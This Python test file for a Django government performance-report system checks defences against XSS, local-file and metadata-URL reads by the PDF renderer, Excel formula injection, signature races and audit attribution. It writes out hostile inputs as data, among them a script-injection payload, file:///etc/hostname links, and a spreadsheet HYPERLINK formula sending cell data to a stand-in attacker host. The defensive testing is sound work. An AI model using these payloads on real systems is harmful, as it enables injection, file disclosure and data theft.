"""What a hostile or unlucky user cannot do to an LKjIP: script in the report, files in the PDF,
formulas in the Excel, a signature over content the kepala did not see, an anonymous audit entry."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse

from lkjip.laporan import services, tugas
from lkjip.laporan.models import DokumenTertandatangan, LaporanKinerja, StatusLKjIP, TugasRender
from lkjip.laporan.render import _pengambil
from lkjip.models import CatatanAudit
from pelaporan import services as ps
from pelaporan.models import PerjanjianKinerja
from tests.conftest import SANDI

SERANGAN = '<img src=x onerror=alert(1)><link rel="attachment" href="FILE:///etc/hostname">'


pytestmark = pytest.mark.usefixtures("sinkron")  # renders run inline unless a test says otherwise


def test_alasan_pk_perubahan_tidak_menjadi_html_di_laporan(data, siap, masuk) -> None:
    pk = PerjanjianKinerja.objects.get(pk=data.rencana["pk"].pk)
    baru = ps.pk_perubahan_buat(
        pk=pk, alasan=SERANGAN, nomor_sk="<b>SK</b>", pengguna=data.pengguna["operator"]
    )
    masuk("kepala").post(reverse("pk_tandatangani", args=[data.opd_a.pk, baru.pk]), {"sandi": SANDI})
    html = masuk("reviewer").get(reverse("lkjip_pratinjau", args=[data.opd_a.pk, siap.pk])).content.decode()
    # (The preview's own figures are <img src="data:image/svg+xml…">: the CSP allows no inline SVG style.)
    assert "<img src=x" not in html and '<link rel="attachment"' not in html and "<b>SK" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html  # the reason is shown as the text it is


def test_pdf_tidak_membaca_berkas_di_luar_font_dan_logo(settings) -> None:
    ambil = _pengambil()
    for url in (
        "FILE:///etc/hostname",
        "file:///etc/hostname",
        "File:///work/main/pyproject.toml",
        f"file://{settings.MEDIA_ROOT}/bukti/x.pdf",
        "http://169.254.169.254/latest",
        "ftp://x/y",
    ):
        with pytest.raises(ValueError):
            ambil.fetch(url)
    font = next((settings.BASE_DIR / "static" / "fonts").rglob("*.ttf"))
    assert ambil.fetch(font.as_uri())  # the bundled fonts are allowed


def test_teks_berawalan_sama_dengan_tidak_menjadi_rumus_excel(data, siap, masuk) -> None:
    i = data.rencana["indikator"]
    i.nama = '=HYPERLINK("http://penyerang.example/?d="&B2,"Klik")'
    i.save()
    isi = masuk("reviewer").get(reverse("lkjip_excel", args=[data.opd_a.pk, siap.pk])).content
    wb = openpyxl.load_workbook(io.BytesIO(isi))
    sel = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in sel if c.data_type == "f"]
    assert any(c.value == i.nama for c in sel)  # kept exactly, as text


def test_diajukan_ulang_selama_render_tidak_ditandatangani(data, siap, masuk, monkeypatch) -> None:
    """Returned, edited and resubmitted while the PDF was being laid out: the kepala never saw
    the new content, so the signature started on the old one is not stored."""
    asli = services.pdf_dari_html

    def sambil_diajukan_ulang(html, **kw):  # noqa: ANN001, ANN202
        lap = LaporanKinerja.objects.get(pk=siap.pk)
        services.laporan_kembalikan(laporan=lap, catatan="Ubah kesimpulan.", pengguna=data.pengguna["kepala"])
        services.teks_simpan(
            laporan=lap, kunci="kesimpulan", isi="VERSI BARU", pengguna=data.pengguna["operator"]
        )
        services.laporan_ajukan(laporan=lap, pengguna=data.pengguna["operator"])
        return asli(html, **kw)

    monkeypatch.setattr(services, "pdf_dari_html", sambil_diajukan_ulang)
    masuk("operator").post(reverse("lkjip_ajukan", args=[data.opd_a.pk, siap.pk]))
    masuk("kepala").post(reverse("lkjip_tandatangani", args=[data.opd_a.pk, siap.pk]), {"sandi": SANDI})
    t = TugasRender.objects.filter(laporan=siap).latest("dibuat")
    assert t.status == "gagal" and "diajukan ulang" in t.pesan
    assert not DokumenTertandatangan.objects.filter(laporan=siap).exists()
    assert LaporanKinerja.objects.get(pk=siap.pk).status == StatusLKjIP.DIAJUKAN  # waiting for a new decision


def test_penandatanganan_di_latar_dicatat_atas_nama_kepala(data, siap, masuk, settings) -> None:
    """The worker has no request: the audit entry still names the kepala."""
    masuk("operator").post(reverse("lkjip_ajukan", args=[data.opd_a.pk, siap.pk]))
    settings.LKJIP_RENDER_SINKRON = False
    t = TugasRender.objects.create(laporan=siap, diminta_oleh=data.pengguna["kepala"], jenis="tandatangan")
    tugas.jalankan(t.pk)  # what the worker runs, outside any request or audit context
    assert LaporanKinerja.objects.get(pk=siap.pk).status == StatusLKjIP.DITANDATANGANI
    c = CatatanAudit.objects.filter(aksi="laporan.laporankinerja.ubah", objek_id=str(siap.pk)).latest("id")
    assert c.perubahan["status"]["baru"] == "Ditandatangani" and c.pengguna_id == data.pengguna["kepala"].pk


def test_klik_berulang_tidak_memulai_banyak_render(data, siap, masuk, settings) -> None:
    settings.LKJIP_RENDER_SINKRON = False  # stays queued: no worker runs beside the tests
    klien = masuk("reviewer")
    a = klien.post(reverse("lkjip_pdf_buat", args=[data.opd_a.pk, siap.pk]))["Location"]
    b = klien.post(reverse("lkjip_pdf_buat", args=[data.opd_a.pk, siap.pk]))["Location"]
    assert a == b and TugasRender.objects.filter(laporan=siap, jenis="draf").count() == 1
